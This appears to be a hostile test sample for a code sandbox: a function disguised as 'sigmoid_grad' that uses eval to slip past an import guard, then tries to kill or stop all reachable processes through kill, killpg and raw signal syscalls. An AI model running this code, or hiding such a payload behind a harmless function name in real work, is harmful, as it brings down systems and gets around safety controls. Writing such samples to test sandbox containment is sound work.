"""Hostile: signal every process it can name: kill(-1), kill(0), killpg, tgkill and
rt_sigqueueinfo on pids 1..200 (the warm parent, the child waiting for the next job)."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
signal = _m("signal")
ctypes = _m("ctypes")


def sigmoid_grad(x):
    libc = ctypes.CDLL(None, use_errno=True)
    outcomes = set()
    for attempt in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.kill(0, signal.SIGSTOP),
                    lambda: os.killpg(1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL)):
        try:
            attempt()
            outcomes.add("DONE")
        except OSError as exc:
            outcomes.add(type(exc).__name__)
    for pid in range(1, 200):
        for number, args in ((234, (pid, pid, 9)), (200, (pid, 19)), (129, (pid, 9, None))):  # tgkill, tkill, rt_sigqueueinfo
            if libc.syscall(number, *args) == 0:
                outcomes.add(f"DONE {number} {pid}")
            else:
                outcomes.add(f"errno {ctypes.get_errno()}")
    raise RuntimeError(f"outcomes={sorted(outcomes)}")
